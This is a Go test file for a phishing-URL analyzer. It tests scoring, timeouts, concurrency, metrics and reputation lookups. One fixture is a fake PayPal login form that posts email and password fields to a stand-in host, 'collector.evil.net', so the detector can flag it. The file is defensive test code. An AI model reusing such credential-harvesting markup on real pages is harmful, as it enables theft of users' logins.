package analyzer

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"

	"phishscore/internal/metrics"
	"phishscore/internal/models"

	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type stubContent struct {
	markup string
	err    error
	delay  time.Duration
	calls  []string
	mu     sync.Mutex
}

func (s *stubContent) Fetch(ctx context.Context, url string) (string, error) {
	s.mu.Lock()
	s.calls = append(s.calls, url)
	s.mu.Unlock()
	if s.delay > 0 {
		select {
		case <-time.After(s.delay):
		case <-ctx.Done():
			return "", ctx.Err()
		}
	}
	return s.markup, s.err
}

type stubAges struct {
	months int
	ok     bool
	calls  []string
	mu     sync.Mutex
}

func (s *stubAges) ResolveAgeMonths(_ context.Context, domain string) (int, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.calls = append(s.calls, domain)
	return s.months, s.ok
}

const phishPage = `<html><head><title>PayPal Login</title></head><body>
<form action="http://collector.evil.net/p.php" method="post">
<input name="email"><input type="password" name="pw"></form></body></html>`

func TestAnalyze_FullPhishingPage(t *testing.T) {
	src := &stubContent{markup: phishPage}
	ages := &stubAges{months: 2, ok: true}
	a := New(src, ages)

	got, err := a.Analyze(context.Background(), "http://www.paypal-secure.example.com/login")
	require.NoError(t, err)

	assert.Equal(t, "paypal-secure.example.com", got.Domain)
	assert.Equal(t, "PayPal Login", got.Title)
	assert.Equal(t, []string{"paypal-secure.example.com"}, ages.calls)
	require.NotNil(t, got.Record.RegistrationAgeMonths)
	assert.Equal(t, 2, *got.Record.RegistrationAgeMonths)
	assert.True(t, got.Record.TitleHasSuspiciousWord)
	assert.True(t, got.Record.BodyHasSuspiciousWord)
	assert.Equal(t, 1, got.Record.FormCount)
	assert.True(t, got.Record.HasExternalFormTarget)
	assert.False(t, got.Record.UsesSecureScheme)
	assert.False(t, got.Partial)
	assert.Empty(t, got.Missing)

	// age 30 + title 20 + body 20 + forms 15 + insecure 15 + external form 20
	assert.Equal(t, 120, got.Score)
	assert.Equal(t, "phishing", got.Verdict)
	assert.Contains(t, got.TitleTerms, "paypal")
	assert.Contains(t, got.TitleTerms, "login")

	total := 0
	for _, c := range got.Breakdown {
		total += c.Weight
	}
	assert.Equal(t, got.Score, total)
}

func TestAnalyze_CleanSecurePage(t *testing.T) {
	src := &stubContent{markup: "<html><title>Recipes</title><body>soup</body></html>"}
	a := New(src, &stubAges{months: 120, ok: true})

	got, err := a.Analyze(context.Background(), "https://example.org/")
	require.NoError(t, err)
	assert.Equal(t, 0, got.Score)
	assert.Equal(t, "safe", got.Verdict)
}

func TestAnalyze_MixedCaseHostFormStaysInternal(t *testing.T) {
	src := &stubContent{markup: `<html><title>Cart</title><body>
<form action="https://Shop.Example.com/cart" method="post"><input name="qty"></form></body></html>`}
	a := New(src, &stubAges{months: 120, ok: true})

	got, err := a.Analyze(context.Background(), "https://Shop.Example.com/")
	require.NoError(t, err)
	assert.Equal(t, "shop.example.com", got.Domain)
	assert.False(t, got.Record.HasExternalFormTarget)
	// forms only
	assert.Equal(t, 15, got.Score)
	assert.Equal(t, "safe", got.Verdict)
}

func TestAnalyze_MalformedURL(t *testing.T) {
	src := &stubContent{}
	ages := &stubAges{}
	a := New(src, ages)

	got, err := a.Analyze(context.Background(), "http://")
	require.ErrorIs(t, err, ErrMalformedURL)
	assert.Nil(t, got)
	assert.Empty(t, src.calls, "no fetch may happen for a malformed URL")
	assert.Empty(t, ages.calls, "no lookup may happen for a malformed URL")
}

func TestAnalyze_ContentUnavailableYieldsPartialRecord(t *testing.T) {
	fetchErr := errors.New("connection refused")
	a := New(&stubContent{err: fetchErr}, &stubAges{months: 1, ok: true})

	got, err := a.Analyze(context.Background(), "http://192.168.1.1/login")
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrContentUnavailable)
	assert.ErrorIs(t, err, fetchErr)

	var cu *ContentUnavailableError
	require.ErrorAs(t, err, &cu)
	assert.Equal(t, "http://192.168.1.1/login", cu.URL)

	require.NotNil(t, got)
	assert.True(t, got.Partial)
	assert.Contains(t, got.Missing, models.MissingContent)
	assert.True(t, got.Record.DomainIsLiteralIP)
	assert.False(t, got.Record.TitleHasSuspiciousWord)
	assert.Zero(t, got.Record.FormCount)
	// age 30 + insecure 15 + literal IP 20
	assert.Equal(t, 65, got.Score)
}

func TestAnalyze_AbsentAgeIsNotAnError(t *testing.T) {
	a := New(&stubContent{markup: "<title>ok</title>"}, &stubAges{ok: false})

	got, err := a.Analyze(context.Background(), "https://example.com")
	require.NoError(t, err)
	assert.Nil(t, got.Record.RegistrationAgeMonths)
	assert.Equal(t, []string{models.MissingRegistrationAge}, got.Missing)
	assert.Equal(t, 0, got.Score)
}

func TestAnalyze_FetchTimeout(t *testing.T) {
	src := &stubContent{markup: "<title>late</title>", delay: time.Second}
	a := New(src, &stubAges{months: 50, ok: true}, WithTimeouts(20*time.Millisecond, time.Second))

	start := time.Now()
	got, err := a.Analyze(context.Background(), "https://slow.example.com")
	assert.Less(t, time.Since(start), 500*time.Millisecond)
	require.ErrorIs(t, err, ErrContentUnavailable)
	assert.ErrorIs(t, err, context.DeadlineExceeded)
	assert.True(t, got.Partial)
	require.NotNil(t, got.Record.RegistrationAgeMonths)
}

type barrierContent struct{ wg *sync.WaitGroup }

func (b barrierContent) Fetch(ctx context.Context, _ string) (string, error) {
	b.wg.Done()
	return "<title>x</title>", waitOrCancel(ctx, b.wg)
}

type barrierAges struct{ wg *sync.WaitGroup }

func (b barrierAges) ResolveAgeMonths(ctx context.Context, _ string) (int, bool) {
	b.wg.Done()
	return 12, waitOrCancel(ctx, b.wg) == nil
}

func waitOrCancel(ctx context.Context, wg *sync.WaitGroup) error {
	done := make(chan struct{})
	go func() {
		wg.Wait()
		close(done)
	}()
	select {
	case <-done:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

func TestAnalyze_FetchAndAgeRunConcurrently(t *testing.T) {
	var wg sync.WaitGroup
	wg.Add(2)
	a := New(barrierContent{&wg}, barrierAges{&wg}, WithTimeouts(2*time.Second, 2*time.Second))

	// Each collaborator blocks until the other has started; sequential calls
	// would hit the timeouts.
	got, err := a.Analyze(context.Background(), "https://example.com")
	require.NoError(t, err)
	require.NotNil(t, got.Record.RegistrationAgeMonths)
	assert.Equal(t, 12, *got.Record.RegistrationAgeMonths)
}

func TestAnalyze_CustomConfiguration(t *testing.T) {
	src := &stubContent{markup: "<title>Connect your wallet</title>"}
	a := New(src, &stubAges{},
		WithVocabulary([]string{"wallet"}),
		WithShorteners([]string{"is.gd"}),
	)

	got, err := a.Analyze(context.Background(), "https://is.gd/abc")
	require.NoError(t, err)
	assert.True(t, got.Record.IsShortenedLink)
	assert.True(t, got.Record.TitleHasSuspiciousWord)
	assert.Equal(t, []string{"wallet"}, got.TitleTerms)
}

func TestAnalyze_RecordsMetrics(t *testing.T) {
	m := metrics.New()
	a := New(&stubContent{markup: phishPage}, &stubAges{months: 1, ok: true}, WithMetrics(m))
	_, err := a.Analyze(context.Background(), "http://example.com")
	require.NoError(t, err)

	b := New(&stubContent{err: errors.New("boom")}, &stubAges{}, WithMetrics(m))
	_, _ = b.Analyze(context.Background(), "http://example.com")

	assert.Equal(t, 1.0, testutil.ToFloat64(m.Analyses.WithLabelValues("phishing")))
	assert.Equal(t, 1.0, testutil.ToFloat64(m.PartialAnalyses))
}

type stubReputation struct {
	listed bool
	err    error
}

func (s stubReputation) Listed(context.Context, string) (bool, error) { return s.listed, s.err }

func TestAnalyze_ReputationIsInformational(t *testing.T) {
	page := "<title>Recipes</title>"
	plain := New(&stubContent{markup: page}, &stubAges{months: 90, ok: true})
	flagged := New(&stubContent{markup: page}, &stubAges{months: 90, ok: true}, WithReputation(stubReputation{listed: true}))
	broken := New(&stubContent{markup: page}, &stubAges{months: 90, ok: true}, WithReputation(stubReputation{err: errors.New("feed down")}))

	base, err := plain.Analyze(context.Background(), "https://example.com")
	require.NoError(t, err)
	assert.Nil(t, base.KnownPhishing)

	got, err := flagged.Analyze(context.Background(), "https://example.com")
	require.NoError(t, err)
	require.NotNil(t, got.KnownPhishing)
	assert.True(t, *got.KnownPhishing)
	assert.Equal(t, base.Score, got.Score, "feed membership never changes the score")

	got, err = broken.Analyze(context.Background(), "https://example.com")
	require.NoError(t, err)
	assert.Nil(t, got.KnownPhishing)
}

type blockingReputation struct{}

func (blockingReputation) Listed(ctx context.Context, _ string) (bool, error) {
	<-ctx.Done()
	return false, ctx.Err()
}

func TestAnalyze_ReputationBoundedByLookupTimeouts(t *testing.T) {
	a := New(&stubContent{markup: "<title>Recipes</title>"}, &stubAges{months: 90, ok: true},
		WithTimeouts(time.Second, 50*time.Millisecond),
		WithReputation(blockingReputation{}))

	start := time.Now()
	got, err := a.Analyze(context.Background(), "https://example.com")
	require.NoError(t, err)
	assert.Nil(t, got.KnownPhishing)
	assert.Less(t, time.Since(start), 500*time.Millisecond, "a stalled feed must not hold the analysis past the age timeout")
}
